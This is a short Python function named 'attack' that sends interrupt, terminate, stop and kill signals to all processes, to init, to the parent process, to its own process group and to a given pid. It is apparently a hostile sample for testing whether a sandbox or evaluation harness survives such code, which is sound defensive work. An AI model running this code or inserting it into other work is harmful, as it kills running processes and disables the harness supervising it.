"""Signals to all, to process 1, to the parent, to the group."""


def attack(sample, item):
    import os
    import signal

    sent = False
    for target in (-1, 1, os.getppid(), 0, item["pid"]):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
                sent = True
            except Exception:
                pass
    return sent
